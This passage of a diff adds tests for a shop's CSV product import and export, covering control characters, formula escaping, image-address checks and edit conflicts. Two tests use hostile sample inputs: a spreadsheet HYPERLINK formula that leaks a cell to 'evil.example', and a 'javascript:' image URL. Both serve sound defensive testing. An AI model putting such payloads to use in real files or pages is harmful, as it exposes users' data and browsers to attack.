@@ -206,7 +206,94 @@ describe('CSV import', () => {
   });
 });
 
+describe('control characters in a cell', () => {
+  const countTees = async () => (await t.database.db.select({ n: count() }).from(products).where(like(products.slug, 'nul-tee-%')))[0]!.n;
+
+  it('refuse the whole file in the dry run and the import alike, naming the row and column, with nothing written', async () => {
+    const rows: Row[] = Array.from({ length: 59 }, (_, i) => ({ name: `Nul Tee ${i}`, category: 'mens-fashion', price: 399, description: 'Cotton', stockQuantity: 5 }));
+    rows.push({ name: 'Nul Tee 59', category: 'mens-fashion', price: 399, description: 'Cotton\u0000 with a NUL', stockQuantity: 5 });
+    const text = csvOf(PRODUCT_CSV_COLUMNS, rows);
+    const message = 'Row 61, column description holds a control character (U+0000), which no product text may hold. Remove it and import the file again: nothing was imported.';
+    for (const query of ['?dryRun=true', '']) {
+      const res = await importCsv(text, query);
+      expect(res.statusCode, res.body).toBe(400);
+      expect(res.json()).toMatchObject({ code: 'INVALID', message, errors: [{ path: 'rows.61.description', message: 'Row 61, column description holds a control character (U+0000), which no product text may hold' }] });
+    }
+    const streamed = await importCsv(text, '', { accept: 'application/x-ndjson' });
+    expect(streamed.statusCode).toBe(400);
+    expect(await countTees()).toBe(0);
+  });
+
+  it('refuse line breaks and tabs outside the descriptions, and take them inside', async () => {
+    const names = await importCsv(csvOf(['name', 'category', 'price', 'stockQuantity'], [{ name: 'Nul Tee Broken\nQuote', category: 'mens-fashion', price: 399, stockQuantity: 1 }, { name: 'Nul Tee\u0007Bell', category: 'mens-fashion', price: 1, stockQuantity: 1 }]));
+    expect(names.statusCode).toBe(400);
+    expect(names.json().message).toBe('Row 2, column name holds a control character (U+000A), which no product text may hold (and 1 other cell). Remove them and import the file again: nothing was imported.');
+    expect(names.json().errors.map((e: { path: string }) => e.path)).toEqual(['rows.2.name', 'rows.3.name']);
+    const described = await imported(csvOf(['name', 'category', 'price', 'description', 'stockQuantity'], [{ name: 'Nul Tee Lines', category: 'mens-fashion', price: 399, description: 'Soft cotton.\nMachine wash:\tcold.', stockQuantity: 1 }]));
+    expect(described).toMatchObject({ created: 1, refused: 0 });
+    expect((await product('nul-tee-lines')).description).toBe('Soft cotton.\nMachine wash:\tcold.');
+  });
+});
+
+describe('formulas in text cells', () => {
+  it('are written with a leading apostrophe, and imported back as they were', async () => {
+    const texts = { name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")', description: '- soft cotton\n- hand woven', tags: '+festive @home', nameHi: "'=quoted already" };
+    const made = await t.app.inject({
+      method: 'POST',
+      url: '/api/admin/products',
+      headers: bearer(admin),
+      payload: { ...texts, slug: 'formula-kurta', categorySlug: 'mens-fashion', price: 999, sizes: ['-S', 'M'], variants: [{ size: '-S', stockQuantity: 2 }, { size: 'M', stockQuantity: 3 }] },
+    });
+    expect(made.statusCode, made.body).toBe(201);
+    const { text } = await exportCsv();
+    const rows = records(text).filter((r) => r.slug === 'formula-kurta');
+    expect(rows[0]).toMatchObject({ name: `'${texts.name}`, description: `'${texts.description}`, tags: `'${texts.tags}`, nameHi: `''=quoted already`, size: "'-S", price: '999', stockQuantity: '2' });
+    expect(rows[1]).toMatchObject({ size: 'M', stockQuantity: '3' });
+
+    const again = await imported(csvOf(PRODUCT_CSV_COLUMNS, rows));
+    expect(again.products).toEqual([expect.objectContaining({ slug: 'formula-kurta', action: 'unchanged' })]);
+    const kept = await t.app.inject({ method: 'GET', url: `/api/admin/products/${made.json().data.id}`, headers: bearer(admin) });
+    expect(kept.json().data).toMatchObject({ ...texts, sizes: ['-S', 'M'], version: 1 });
+  });
+});
+
+describe('picture addresses in a file', () => {
+  it('takes the store’s own uploads and https addresses, and refuses others at their row', async () => {
+    const row = (name: string, images: string) => ({ name, category: 'accessories', price: 299, images, stockQuantity: 1 });
+    const report = await imported(
+      csvOf(PRODUCT_CSV_COLUMNS, [
+        row('Own Picture Stole', '/uploads/accessories/stole-0123456789abcdef0123.webp|https://cdn.example.com/stole.webp'),
+        row('Script Picture Stole', 'javascript:alert(6)'),
+        row('Plain Http Stole', 'http://cdn.example.com/stole.webp'),
+      ]),
+    );
+    const by = (slug: string) => report.products.find((p) => p.slug === slug)!;
+    expect(by('own-picture-stole').action).toBe('create');
+    expect(by('script-picture-stole').errors).toEqual([{ row: 3, message: 'Use a picture uploaded to the store, or an https:// address' }]);
+    expect(by('plain-http-stole').errors).toEqual([{ row: 4, message: 'Use a picture uploaded to the store, or an https:// address' }]);
+  });
+});
+
 describe('a product changed between the plan and the writes', () => {
+  it('is refused when another admin saved it meanwhile, rather than written over', async () => {
+    const csv = new ProductsCsvService(t.database.db, new ProductsAdminService(t.database.db, { changes: new LocalChangeBus(), pictures: { deleteImage: async () => false } }));
+    const rows = records((await exportCsv()).text).filter((r) => ['linen-blend-casual-shirt', 'classic-cotton-t-shirt'].includes(r.slug!));
+    const plan = await csv.plan(Buffer.from(csvOf(PRODUCT_CSV_COLUMNS, rows.map((r) => ({ ...r, tags: 'imported' })))));
+    expect(plan.planned.map((p) => p.item.action)).toEqual(['update', 'update']);
+    const [shirt] = await t.database.db.select().from(products).where(eq(products.slug, 'linen-blend-casual-shirt'));
+    const saved = await t.app.inject({ method: 'PUT', url: `/api/admin/products/${shirt!.id}/status`, headers: bearer(admin), payload: { featured: !shirt!.featured } });
+    expect(saved.json().data.version).toBe(shirt!.version + 1);
+    const [teeBefore] = await t.database.db.select().from(products).where(eq(products.slug, 'classic-cotton-t-shirt'));
+    const report = await csv.apply(plan);
+    const by = (slug: string) => report.products.find((p) => p.slug === slug)!;
+    expect(by('classic-cotton-t-shirt')).toMatchObject({ action: 'update', errors: [] });
+    expect(by('linen-blend-casual-shirt')).toMatchObject({ action: 'refused', errors: [{ row: null, message: 'This product was changed meanwhile (featured). Reload to see the changes.' }] });
+    const [tee] = await t.database.db.select().from(products).where(eq(products.slug, 'classic-cotton-t-shirt'));
+    expect(tee).toMatchObject({ tags: 'imported', version: teeBefore!.version + 1 });
+    const [shirtAfter] = await t.database.db.select().from(products).where(eq(products.slug, 'linen-blend-casual-shirt'));
+    expect(shirtAfter).toMatchObject({ tags: shirt!.tags, version: shirt!.version + 1 });
+  });
+
   it('is refused alone, with the reason, and the rest of its batch is written', async () => {
     const csv = new ProductsCsvService(t.database.db, new ProductsAdminService(t.database.db, { changes: new LocalChangeBus(), pictures: { deleteImage: async () => false } }));
     const rows = records((await exportCsv()).text).filter((r) => ['denim-jacket', 'silk-blouse'].includes(r.slug!));
